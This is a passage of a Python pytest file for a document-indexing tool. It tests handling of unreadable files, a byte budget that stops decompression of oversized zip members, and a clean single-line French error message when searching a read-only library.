@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root reads every file")
def test_a_file_without_read_permission_is_that_files_failure(tmp_path: Path, reference: dict) -> None:
    folder = make_good(tmp_path / "dossier")
    locked = hf.good_txt(folder / "prive.txt", 15)
    locked.chmod(0)
    try:
        with Library(tmp_path / "data", embedder="hashing", ocr_enabled=False) as lib:
            report = lib.import_folder(folder)
            assert [(f.path, f.code) for f in report.failed] == [("prive.txt", Reason.READ_ERROR)]
            assert snapshot(lib) == reference
    finally:
        locked.chmod(0o644)


def test_the_stream_budget_stops_reading_at_its_limit() -> None:
    """Second line behind the directory check (zipfile already stops at the declared size): whatever a
    member yields, reading stops once the budget is spent."""
    import io

    from indexer.extract.zipguard import _Budgeted

    stream = io.BufferedReader(_Budgeted(io.BytesIO(b"x" * 10_000), "word/document.xml", 4_000), buffer_size=512)
    with pytest.raises(Exception) as info:
        while stream.read(512):
            pass
    assert getattr(info.value, "reason", None) == Reason.INFLATES_TOO_MUCH


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_search_on_a_read_only_library_says_it_in_french_without_a_trace(imported: tuple[Path, Path]) -> None:
    """A library on a read-only medium (a USB key, a CD): `registre search` refuses it with its French sentence
    (exit 3) and nothing else on stderr — the journal, not writable either, used to add logging's own traceback
    (« --- Logging error --- … OSError: Read-only file system »)."""
    _folder, data = imported
    log_file = data / "journal" / "registre.log"
    log_file.parent.mkdir(parents=True, exist_ok=True)
    log_file.touch()
    before = _digest(data)
    undo_file = _make_read_only(log_file)
    try:
        undo_folder = _make_read_only(data)
        try:
            env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parent.parent))
            run = subprocess.run([sys.executable, "-m", "registre", "search", "subvention", "--data-dir", str(data)],
                                 capture_output=True, text=True, env=env, timeout=300)
        finally:
            undo_folder()
    finally:
        undo_file()
    assert run.returncode == 3, run.stderr
    assert "n'est pas accessible en écriture" in run.stderr
    assert "Traceback" not in run.stderr and "Logging error" not in run.stderr, run.stderr
    assert len(run.stderr.strip().splitlines()) == 1, run.stderr  # the sentence once, no « Arrêt : … [Errno 30] »
    assert _digest(data) == before
